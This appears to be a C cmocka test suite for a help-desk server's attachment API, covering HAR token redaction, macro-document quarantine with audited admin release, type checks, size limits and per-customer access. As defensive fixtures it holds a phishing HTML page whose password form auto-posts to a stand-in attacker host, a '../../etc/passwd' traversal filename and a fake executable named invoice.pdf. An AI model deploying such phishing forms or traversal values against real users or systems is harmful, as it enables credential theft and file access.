/*
 * API tests of attachments against the real server: a customer's HAR file
 * stored without its session values (the response says what was removed
 * and why, the agent's download holds no token, a deletion date is set); a
 * macro-enabled Word document built here as a real ZIP, quarantined,
 * refused to the agent, released by an admin with a reason (audited),
 * then downloaded as an attachment with a CSP sandbox; a program named
 * invoice.pdf; a clean text file; a path in the file name; the size limit
 * (413); bad base64 (400, nothing stored); customer B and agent 2 kept
 * out (404); staff routes absent from the public listener.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../zipmini.h"
#include "harness.h"

struct world {
	struct gh_server s;
	struct gh_user agent1, agent2, admin, cust_a, cust_b;
	struct gh_client c_agent1, c_agent2, c_admin, c_a, c_b;
	int64_t ticket;
};

#define MAX_BYTES 262144

static int
setup(void **state)
{
	struct world *w = calloc(1, sizeof(*w));

	gh_start(&w->s, "\n[attachments]\nmax_bytes = 262144\n");
	gh_add_staff(&w->s, "agent1@example.com", "agent", &w->agent1);
	gh_add_staff(&w->s, "agent2@example.com", "agent", &w->agent2);
	gh_add_staff(&w->s, "admin@example.com", "admin", &w->admin);
	gh_add_customer(&w->s, "cust.a@example.org", &w->cust_a);
	gh_add_customer(&w->s, "cust.b@example.org", &w->cust_b);
	gh_client_init(&w->c_agent1, 1);
	gh_client_init(&w->c_agent2, 1);
	gh_client_init(&w->c_admin, 1);
	gh_client_init(&w->c_a, 0);
	gh_client_init(&w->c_b, 0);
	assert_int_equal(gh_login(&w->s, &w->c_agent1, &w->agent1), 201);
	assert_int_equal(gh_login(&w->s, &w->c_agent2, &w->agent2), 201);
	assert_int_equal(gh_login(&w->s, &w->c_admin, &w->admin), 201);
	assert_int_equal(gh_login(&w->s, &w->c_a, &w->cust_a), 201);
	assert_int_equal(gh_login(&w->s, &w->c_b, &w->cust_b), 201);
	*state = w;
	return 0;
}

static int
teardown(void **state)
{
	struct world *w = *state;

	gh_client_free(&w->c_agent1);
	gh_client_free(&w->c_agent2);
	gh_client_free(&w->c_admin);
	gh_client_free(&w->c_a);
	gh_client_free(&w->c_b);
	assert_int_equal(gh_stop(&w->s), 0);
	free(w);
	return 0;
}

static char *
b64(const unsigned char *d, size_t n)
{
	static const char t[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char *o = malloc((n + 2) / 3 * 4 + 1), *p = o;

	assert_non_null(o);
	for (size_t i = 0; i < n; i += 3) {
		unsigned v = (unsigned)d[i] << 16;

		if (i + 1 < n)
			v |= (unsigned)d[i + 1] << 8;
		if (i + 2 < n)
			v |= d[i + 2];
		*p++ = t[(v >> 18) & 63];
		*p++ = t[(v >> 12) & 63];
		*p++ = i + 1 < n ? t[(v >> 6) & 63] : '=';
		*p++ = i + 2 < n ? t[v & 63] : '=';
	}
	*p = '\0';
	return o;
}

/* Uploads as a customer (portal) or staff member to ticket id. */
static long
upload_raw(struct world *w, struct gh_client *c, int64_t id,
	   const char *name, const char *content_b64, struct gh_resp *r)
{
	char path[128];

	snprintf(path, sizeof(path), "/api/v1/%stickets/%lld/attachments",
		 c->staff ? "" : "portal/", (long long)id);
	return gh_send_json(&w->s, c, "POST", path,
			 json_pack("{s:s, s:s}", "filename", name,
				   "content_base64", content_b64),
			 r);
}

static long
upload(struct world *w, struct gh_client *c, int64_t id, const char *name,
       const void *data, size_t len, struct gh_resp *r)
{
	char *e = b64(data, len);
	long st = upload_raw(w, c, id, name, e, r);

	free(e);
	return st;
}

static long
download(struct world *w, struct gh_client *c, int64_t id,
	 struct gh_resp *r)
{
	char path[96];

	snprintf(path, sizeof(path), "/api/v1/attachments/%lld",
		 (long long)id);
	return gh_req(&w->s, c, "GET", path, NULL, NULL, r);
}

static int64_t
new_ticket(struct world *w, struct gh_client *c)
{
	struct gh_resp r;
	int64_t id;

	assert_int_equal(gh_send_json(&w->s, c, "POST", "/api/v1/portal/tickets",
				   json_pack("{s:s, s:s}", "subject",
					     "Login trouble", "body",
					     "Files attached."),
				   &r),
			 201);
	id = json_integer_value(json_object_get(r.json, "id"));
	gh_resp_free(&r);
	return id;
}

static int64_t
count(struct world *w, const char *sql)
{
	return gh_db_count(&w->s, sql);
}

static const char har[] =
	"{\"log\": {\"version\": \"1.2\", \"creator\": {\"name\": \"Chrome\"},"
	" \"entries\": ["
	"{\"request\": {\"method\": \"GET\", \"url\": "
	"\"https://app.example.com/a?session=SeSsIoN-7f3a9c1e2b4d\","
	" \"headers\": [{\"name\": \"Cookie\", \"value\": "
	"\"session=SeSsIoN-7f3a9c1e2b4d; theme=dark\"},"
	" {\"name\": \"Authorization\", \"value\": \"Bearer "
	"AcCeSs-0a1b2c3d4e5f6a7b8c9d\"}],"
	" \"cookies\": [{\"name\": \"session\", \"value\": "
	"\"SeSsIoN-7f3a9c1e2b4d\"}]},"
	" \"response\": {\"status\": 200, \"headers\": [], \"cookies\": []}},"
	"{\"request\": {\"method\": \"POST\", \"url\": "
	"\"https://app.example.com/b\", \"headers\": [{\"name\": "
	"\"Authorization\", \"value\": \"Bearer "
	"AcCeSs-0a1b2c3d4e5f6a7b8c9d\"}], \"cookies\": []},"
	" \"response\": {\"status\": 200, \"headers\": [{\"name\": "
	"\"Set-Cookie\", \"value\": \"session=SeSsIoN-7f3a9c1e2b4d; "
	"HttpOnly\"}], \"cookies\": []}}]}}";

/* ASVS 14.2.7: a HAR file loses its session values and gets a deletion
 * date; the customer is told why. */
static void
test_har(void **state)
{
	struct world *w = *state;
	struct gh_resp r;
	int64_t t = new_ticket(w, &w->c_a), id;
	json_t *red;
	char sql[160];

	assert_int_equal(upload(w, &w->c_a, t, "network.har", har,
				strlen(har), &r),
			 201);
	id = json_integer_value(json_object_get(r.json, "id"));
	assert_true(id > 0);
	assert_string_equal(json_string_value(json_object_get(r.json,
							      "filename")),
			    "network.har");
	assert_false(json_is_true(json_object_get(r.json, "quarantined")));
	red = json_object_get(r.json, "redacted");
	assert_true(json_array_size(red) >= 1);
	assert_string_equal(json_string_value(json_object_get(
				    json_array_get(red, 0), "type")),
			    "har_session");
	assert_non_null(strstr(json_string_value(json_object_get(r.json,
								 "notice")),
			       "sign out"));
	assert_null(strstr(r.body, "SeSsIoN"));
	assert_true(json_integer_value(json_object_get(r.json,
						       "delete_after")) > 0);
	gh_resp_free(&r);
	snprintf(sql, sizeof(sql),
		 "SELECT COUNT(*) FROM attachments WHERE id = %lld AND "
		 "delete_after >= created_at + 30 * 86400",
		 (long long)id);
	assert_int_equal(count(w, sql), 1);
	/* The audit record names the redaction, never the value. */
	assert_int_equal(count(w, "SELECT COUNT(*) FROM audit WHERE "
				  "record LIKE '%attachment.upload%' AND "
				  "record LIKE '%har_session%'"),
			 1);
	/* Case-sensitive: SQLite's GLOB, PostgreSQL's LIKE. */
	assert_int_equal(count(w, gh_db_pg() ? "SELECT COUNT(*) FROM audit WHERE "
					      "record LIKE '%SeSsIoN-7f3a%'"
					    : "SELECT COUNT(*) FROM audit WHERE "
					      "record GLOB '*SeSsIoN-7f3a*'"),
			 0);

	/* What the agent gets has no token left, anywhere. */
	assert_int_equal(download(w, &w->c_agent1, id, &r), 200);
	assert_null(memmem(r.body, r.len, "SeSsIoN-7f3a", 12));
	assert_null(memmem(r.body, r.len, "AcCeSs-0a1b", 11));
	assert_non_null(memmem(r.body, r.len, "[redacted: har_session]", 23));
	gh_resp_free(&r);
	assert_int_equal(download(w, &w->c_admin, id, &r), 200);
	assert_null(memmem(r.body, r.len, "SeSsIoN-7f3a", 12));
	gh_resp_free(&r);
}

/* ASVS 5.2.2, 5.3.1, 5.4.1, 5.4.2: a macro document is quarantined until
 * an admin releases it; then it comes as an attachment, sandboxed. */
static void
test_macro_quarantine(void **state)
{
	struct world *w = *state;
	struct gh_resp r;
	int64_t t = new_ticket(w, &w->c_a), id;
	unsigned char *docm;
	size_t dlen;
	char path[96], *h;

	docm = zipmini_docm(&dlen);
	assert_int_equal(upload(w, &w->c_a, t, "Q3 figures.docm", docm, dlen,
				&r),
			 201);
	id = json_integer_value(json_object_get(r.json, "id"));
	assert_string_equal(json_string_value(json_object_get(r.json,
							      "verdict")),
			    "dangerous");
	assert_true(json_is_true(json_object_get(r.json, "quarantined")));
	assert_non_null(strstr(r.body, "ooxml_macros"));
	assert_non_null(strstr(json_string_value(json_object_get(r.json,
								 "notice")),
			       "held back"));
	gh_resp_free(&r);

	/* Listed for staff with verdict and reasons. */
	snprintf(path, sizeof(path), "/api/v1/tickets/%lld/attachments",
		 (long long)t);
	assert_int_equal(gh_req(&w->s, &w->c_agent1, "GET", path, NULL, NULL,
				&r),
			 200);
	assert_non_null(strstr(r.body, "\"quarantined\":true"));
	assert_non_null(strstr(r.body, "ooxml_macros"));
	/* Staff see which entries inside were flagged (an array, here
	 * possibly empty: the macros are the document's own reason). */
	assert_non_null(strstr(r.body, "\"flagged\":["));
	gh_resp_free(&r);

	assert_int_equal(download(w, &w->c_agent1, id, &r), 403);
	assert_string_equal(gh_error(&r), "quarantined");
	gh_resp_free(&r);

	/* Release: not by an agent; an admin with a reason. */
	snprintf(path, sizeof(path), "/api/v1/attachments/%lld/release",
		 (long long)id);
	assert_int_equal(gh_send_json(&w->s, &w->c_agent1, "POST", path,
				   json_pack("{s:s}", "reason",
					     "I know this customer"),
				   &r),
			 403);
	gh_resp_free(&r);
	assert_int_equal(gh_send_json(&w->s, &w->c_admin, "POST", path,
				   json_pack("{s:s}", "reason", "ok"), &r),
			 400);
	gh_resp_free(&r);
	assert_int_equal(count(w, "SELECT COUNT(*) FROM audit WHERE "
				  "record LIKE '%attachment.release%'"),
			 0);
	assert_int_equal(gh_send_json(&w->s, &w->c_admin, "POST", path,
				   json_pack("{s:s}", "reason",
					     "Opened in the analysis VM: "
					     "ERP export template"),
				   &r),
			 200);
	assert_false(json_is_true(json_object_get(r.json, "quarantined")));
	assert_true(json_is_object(json_object_get(r.json, "released")));
	gh_resp_free(&r);
	assert_int_equal(count(w, "SELECT COUNT(*) FROM audit WHERE "
				  "record LIKE '%attachment.release%' AND "
				  "record LIKE '%analysis VM%'"),
			 1);
	assert_int_equal(gh_send_json(&w->s, &w->c_admin, "POST", path,
				   json_pack("{s:s}", "reason", "once more"),
				   &r),
			 409);
	gh_resp_free(&r);

	assert_int_equal(download(w, &w->c_agent1, id, &r), 200);
	assert_int_equal(r.len, dlen);
	assert_memory_equal(r.body, docm, dlen);
	/* ASVS 3.2.1: a user file is served as a download (attachment,
	 * octet-stream, CSP sandbox), never rendered in our origin. */
	h = gh_header(&r, "Content-Disposition");
	assert_non_null(h);
	assert_true(strncmp(h, "attachment;", 11) == 0);
	assert_non_null(strstr(h, "filename*=UTF-8''Q3%20figures.docm"));
	free(h);
	h = gh_header(&r, "Content-Security-Policy");
	assert_non_null(h);
	assert_non_null(strstr(h, "sandbox"));
	free(h);
	h = gh_header(&r, "Content-Type");
	assert_non_null(h);
	assert_non_null(strstr(h, "application/octet-stream"));
	free(h);
	h = gh_header(&r, "X-Content-Type-Options");
	assert_non_null(h);
	free(h);
	gh_resp_free(&r);
	free(docm);
}

/* ASVS 5.2.2: content vs extension; 5.3.2: names. */
static void
test_types_and_names(void **state)
{
	struct world *w = *state;
	struct gh_resp r;
	int64_t t = new_ticket(w, &w->c_a), id;
	unsigned char elf[512];
	static const char text[] = "Order 1234 arrived damaged.\n";

	memset(elf, 0, sizeof(elf));
	memcpy(elf, "\x7f" "ELF\x02\x01\x01", 7);
	elf[16] = 2;
	elf[18] = 62;
	assert_int_equal(upload(w, &w->c_a, t, "invoice.pdf", elf, sizeof(elf),
				&r),
			 201);
	assert_string_equal(json_string_value(json_object_get(r.json,
							      "verdict")),
			    "dangerous");
	assert_non_null(strstr(r.body, "type_mismatch"));
	assert_non_null(strstr(r.body, "\"executable\""));
	assert_true(json_is_true(json_object_get(r.json, "quarantined")));
	id = json_integer_value(json_object_get(r.json, "id"));
	gh_resp_free(&r);
	assert_int_equal(download(w, &w->c_agent1, id, &r), 403);
	gh_resp_free(&r);

	assert_int_equal(upload(w, &w->c_a, t, "../../etc/passwd", text,
				strlen(text), &r),
			 201);
	assert_string_equal(json_string_value(json_object_get(r.json,
							      "filename")),
			    "passwd");
	id = json_integer_value(json_object_get(r.json, "id"));
	gh_resp_free(&r);
	assert_int_equal(upload(w, &w->c_a, t, "damage.txt", text,
				strlen(text), &r),
			 201);
	assert_string_equal(json_string_value(json_object_get(r.json,
							      "verdict")),
			    "clean");
	assert_false(json_is_true(json_object_get(r.json, "quarantined")));
	id = json_integer_value(json_object_get(r.json, "id"));
	gh_resp_free(&r);
	assert_int_equal(download(w, &w->c_agent1, id, &r), 200);
	assert_int_equal(r.len, strlen(text));
	assert_memory_equal(r.body, text, r.len);
	gh_resp_free(&r);

	/* The customer's own list. */
	{
		char path[96];

		snprintf(path, sizeof(path),
			 "/api/v1/portal/tickets/%lld/attachments",
			 (long long)t);
		assert_int_equal(gh_req(&w->s, &w->c_a, "GET", path, NULL,
					NULL, &r),
				 200);
		assert_int_equal(json_array_size(json_object_get(
					 r.json, "attachments")),
				 3);
		assert_null(strstr(r.body, "sha256"));
		gh_resp_free(&r);
	}
}

/* Issue 15, defect 5: an HTML page with a password form posting to
 * another domain and a script is not clean, and says why. */
static void
test_active_html(void **state)
{
	struct world *w = *state;
	struct gh_resp r;
	int64_t t = new_ticket(w, &w->c_a);
	static const char page[] =
		"<!DOCTYPE html><html><body><form method=\"post\" "
		"action=\"https://login.evil.example.net/collect\">"
		"<input type=\"password\" name=\"pw\"></form>"
		"<script>document.forms[0].submit()</script></body></html>\n";

	assert_int_equal(upload(w, &w->c_a, t, "statement.html", page,
				strlen(page), &r),
			 201);
	assert_string_not_equal(json_string_value(json_object_get(r.json,
								  "verdict")),
				"clean");
	assert_non_null(strstr(r.body, "\"active_html\""));
	gh_resp_free(&r);
}

/* ASVS 5.2.1 and input handling: nothing is stored on error. */
static void
test_limits(void **state)
{
	struct world *w = *state;
	struct gh_resp r;
	int64_t t = new_ticket(w, &w->c_a);
	int64_t before = count(w, "SELECT COUNT(*) FROM attachments");
	unsigned char *big = calloc(1, MAX_BYTES + 1);

	assert_non_null(big);
	memset(big, 'a', MAX_BYTES + 1);
	assert_int_equal(upload(w, &w->c_a, t, "big.txt", big, MAX_BYTES + 1,
				&r),
			 413);
	gh_resp_free(&r);
	free(big);
	assert_int_equal(upload_raw(w, &w->c_a, t, "x.txt", "not base64!", &r),
			 400);
	assert_string_equal(gh_error(&r), "bad_field");
	gh_resp_free(&r);
	assert_int_equal(upload_raw(w, &w->c_a, t, "x.txt", "aGk", &r), 400);
	gh_resp_free(&r);
	assert_int_equal(upload_raw(w, &w->c_a, t, "x.txt", "", &r), 400);
	gh_resp_free(&r);
	assert_int_equal(upload_raw(w, &w->c_a, t, "a\x01.txt", "aGk=", &r),
			 400);
	gh_resp_free(&r);
	assert_int_equal(upload_raw(w, &w->c_a, t, "dir/", "aGk=", &r), 400);
	gh_resp_free(&r);
	assert_int_equal(count(w, "SELECT COUNT(*) FROM attachments"), before);
}

/* ASVS 8.2.2 */
static void
test_authorization(void **state)
{
	struct world *w = *state;
	struct gh_resp r;
	int64_t t = new_ticket(w, &w->c_a), id;
	int64_t before;
	char path[128], body[64];

	assert_int_equal(upload(w, &w->c_a, t, "mine.txt", "hello", 5, &r),
			 201);
	id = json_integer_value(json_object_get(r.json, "id"));
	gh_resp_free(&r);
	before = count(w, "SELECT COUNT(*) FROM attachments");
	/* Customer B: A's ticket does not exist for them. */
	assert_int_equal(upload(w, &w->c_b, t, "x.txt", "hello", 5, &r), 404);
	gh_resp_free(&r);
	snprintf(path, sizeof(path), "/api/v1/portal/tickets/%lld/attachments",
		 (long long)t);
	assert_int_equal(gh_req(&w->s, &w->c_b, "GET", path, NULL, NULL, &r),
			 404);
	gh_resp_free(&r);
	assert_int_equal(count(w, "SELECT COUNT(*) FROM attachments"), before);

	/* Agent 1 takes the ticket; agent 2 then cannot reach the file. */
	snprintf(path, sizeof(path), "/api/v1/tickets/%lld/assign",
		 (long long)t);
	snprintf(body, sizeof(body), "{\"staff_id\": %lld}",
		 (long long)w->agent1.id);
	assert_int_equal(gh_req(&w->s, &w->c_agent1, "POST", path, body, NULL,
				&r),
			 200);
	gh_resp_free(&r);
	assert_int_equal(download(w, &w->c_agent2, id, &r), 404);
	gh_resp_free(&r);
	snprintf(path, sizeof(path), "/api/v1/tickets/%lld/attachments",
		 (long long)t);
	assert_int_equal(gh_req(&w->s, &w->c_agent2, "GET", path, NULL, NULL,
				&r),
			 404);
	gh_resp_free(&r);
	assert_int_equal(download(w, &w->c_agent1, id, &r), 200);
	gh_resp_free(&r);
	/* Staff upload to a visible ticket. */
	assert_int_equal(upload(w, &w->c_agent1, t, "steps.txt", "1. reboot",
				9, &r),
			 201);
	gh_resp_free(&r);
	assert_int_equal(upload(w, &w->c_agent2, t, "x.txt", "hi", 2, &r),
			 404);
	gh_resp_free(&r);

	/* Staff routes do not exist on the public listener. */
	snprintf(path, sizeof(path), "/api/v1/attachments/%lld",
		 (long long)id);
	assert_int_equal(gh_req(&w->s, &w->c_a, "GET", path, NULL, NULL, &r),
			 404);
	gh_resp_free(&r);
	/* Admin routes refuse agents. */
	snprintf(path, sizeof(path), "/api/v1/attachments/%lld/release",
		 (long long)id);
	assert_int_equal(gh_req(&w->s, &w->c_agent1, "POST", path,
				"{\"reason\": \"because\"}", NULL, &r),
			 403);
	gh_resp_free(&r);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_har),
		cmocka_unit_test(test_macro_quarantine),
		cmocka_unit_test(test_types_and_names),
		cmocka_unit_test(test_active_html),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_authorization),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
